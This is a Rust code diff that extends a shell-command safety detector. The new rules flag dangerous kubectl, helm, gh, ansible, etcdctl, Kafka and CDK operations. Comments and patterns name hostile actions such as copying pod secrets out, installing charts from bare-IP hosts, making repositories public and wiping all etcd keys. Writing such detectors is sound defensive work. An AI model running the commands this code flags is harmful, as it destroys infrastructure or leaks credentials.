@@ -56,6 +56,8 @@ pub(crate) const DETECTOR: Detector = Detector {
         Intent::CredentialRead,
         Intent::PrivilegeEscalate,
         Intent::PrivilegeGrant,
+        Intent::DataExport,
+        Intent::ExecRemoteCode,
     ],
     triggers: &[
         "kubectl",
@@ -78,6 +80,11 @@ pub(crate) const DETECTOR: Detector = Detector {
         "gh",
         "glab",
         "vault",
+        "ansible",
+        "etcdctl",
+        "kafka-topics",
+        "kafka-topics.sh",
+        "cdk",
     ],
 };
 
@@ -196,6 +203,35 @@ pub(crate) fn check(inv: Invocation<'_>, name: &str, st: &mut ShellState<'_>, fa
                         }
                     }
                 }
+                Some("create") if ops.get(1).is_some_and(|k| k.ends_with("rolebinding")) => {
+                    let role = v
+                        .iter()
+                        .find_map(|a| a.strip_prefix("--clusterrole=").or_else(|| a.strip_prefix("--role=")))
+                        .or_else(|| v.windows(2).find(|w| w[0] == "--clusterrole" || w[0] == "--role").map(|w| w[1]));
+                    if let Some(role @ ("cluster-admin" | "admin" | "edit")) = role {
+                        let severity = if role == "cluster-admin" { Severity::Critical } else { Severity::High };
+                        fact(
+                            facts,
+                            Intent::PrivilegeEscalate,
+                            severity,
+                            "role",
+                            role,
+                            format!("binds `{role}` to a subject: it can change anything the role covers"),
+                        );
+                    }
+                }
+                // `kubectl cp pod:/var/run/secrets/… ./token`: a credential copied out.
+                Some("cp") => {
+                    let from = ops.get(1).copied().unwrap_or("");
+                    if let Some((_, path)) = from.split_once(':') {
+                        if path.contains("/secrets/") || super::credentials::secret_kind(path).is_some() {
+                            prints_secret(
+                                facts,
+                                format!("kubectl cp copies `{path}`, a credential, out of the container"),
+                            );
+                        }
+                    }
+                }
                 Some("exec") => {
                     if let Some(dd) = v.iter().position(|a| *a == "--") {
                         let line: Vec<String> = inv.args[dd + 1..].iter().map(|a| shell_quote(&a.value)).collect();
@@ -207,6 +243,30 @@ pub(crate) fn check(inv: Invocation<'_>, name: &str, st: &mut ShellState<'_>, fa
         }
         "helm" => {
             let ops = operands(&v[1..], &["-n", "--namespace", "--kube-context", "--kubeconfig"]);
+            // A chart is code the cluster runs: from a bare IP, a catcher or plain HTTP, it is code
+            // from nowhere (`helm install x https://203.0.113.44/charts/x.tgz`).
+            if matches!(ops.first().copied(), Some("install" | "upgrade" | "template")) {
+                let repo = value_of(&v, "--repo");
+                for source in ops.iter().skip(1).copied().chain(repo).filter(|o| o.contains("://")) {
+                    let host = crate::analyze::destination::host_of(source);
+                    let class = crate::analyze::destination::classify(&host, source, &st.policy.destinations);
+                    let untrusted = matches!(
+                        class,
+                        crate::analyze::destination::HostClass::Untrusted
+                            | crate::analyze::destination::HostClass::BareIp
+                    ) || (source.starts_with("http://") && class.leaves());
+                    if untrusted {
+                        fact(
+                            facts,
+                            Intent::ExecRemoteCode,
+                            Severity::High,
+                            "location",
+                            source,
+                            format!("helm deploys a chart from `{source}`, {}", class.describe(&host)),
+                        );
+                    }
+                }
+            }
             if let Some(verb @ ("uninstall" | "delete" | "del" | "un")) = ops.first().copied() {
                 let release = ops.get(1).copied().unwrap_or("");
                 fact(
@@ -445,6 +505,19 @@ pub(crate) fn check(inv: Invocation<'_>, name: &str, st: &mut ShellState<'_>, fa
                         format!("{name} repo delete deletes `{repo}` with its history, issues and releases"),
                     );
                 }
+                (Some("repo"), Some("edit"))
+                    if line.contains("--visibility public") || line.contains("--visibility=public") =>
+                {
+                    let repo = ops.get(2).copied().unwrap_or("the current repository");
+                    fact(
+                        facts,
+                        Intent::DataExport,
+                        Severity::High,
+                        "repository",
+                        repo,
+                        format!("{name} repo edit makes `{repo}` public: its code and history are exposed"),
+                    );
+                }
                 (Some("api"), Some(endpoint)) => {
                     let glued = v.iter().find_map(|a| a.strip_prefix("-X").filter(|m| !m.is_empty()));
                     let method = value_of(&v, "-X").or_else(|| value_of(&v, "--method")).or(glued).unwrap_or("GET");
@@ -481,6 +554,59 @@ pub(crate) fn check(inv: Invocation<'_>, name: &str, st: &mut ShellState<'_>, fa
                 _ => {}
             }
         }
+        // Ansible ad-hoc: the module's arguments run on every host of the pattern.
+        "ansible" => {
+            let module = value_of(&v, "-m").or_else(|| value_of(&v, "--module-name")).unwrap_or("command");
+            let module = module.rsplit('.').next().unwrap_or(module);
+            let args = value_of(&v, "-a").or_else(|| value_of(&v, "--args")).unwrap_or("");
+            match module {
+                "shell" | "command" | "raw" => {
+                    let _ = nested(args, inv.report, st, facts);
+                }
+                "file" if args.split_whitespace().any(|a| a == "state=absent") => {
+                    if let Some(path) = args.split_whitespace().find_map(|a| {
+                        a.strip_prefix("path=").or_else(|| a.strip_prefix("dest=")).or_else(|| a.strip_prefix("name="))
+                    }) {
+                        let _ = nested(&format!("rm -rf {}", shell_quote(path)), inv.report, st, facts);
+                    }
+                }
+                _ => {}
+            }
+        }
+        // etcd: `del "" --from-key` or `del --prefix ""` deletes every key (a cluster's whole state).
+        "etcdctl" => {
+            let ops = operands(&v[1..], &["--endpoints", "--cacert", "--cert", "--key", "--user", "--password"]);
+            let everything = |k: Option<&&str>| k.is_none_or(|k| k.is_empty() || *k == "/");
+            if ops.first() == Some(&"del") && (has("--from-key") || has("--prefix")) && everything(ops.get(1)) {
+                fact(
+                    facts,
+                    Intent::InfraDestroy,
+                    Severity::Critical,
+                    "cluster",
+                    "",
+                    "etcdctl deletes every key in etcd".to_owned(),
+                );
+            }
+        }
+        "kafka-topics" | "kafka-topics.sh" if has("--delete") => {
+            let topic = value_of(&v, "--topic").unwrap_or("");
+            fact(
+                facts,
+                Intent::InfraDestroy,
+                Severity::High,
+                "location",
+                topic,
+                format!("deletes the Kafka topic `{topic}` with its messages"),
+            );
+        }
+        "cdk" if v.get(1) == Some(&"destroy") => fact(
+            facts,
+            Intent::InfraDestroy,
+            Severity::Critical,
+            "stack",
+            v.get(2).copied().unwrap_or(""),
+            "cdk destroy deletes every resource of the stack".to_owned(),
+        ),
         "virsh" if v.get(1).is_some_and(|s| *s == "destroy" || *s == "undefine") => fact(
             facts,
             Intent::InfraDestroy,
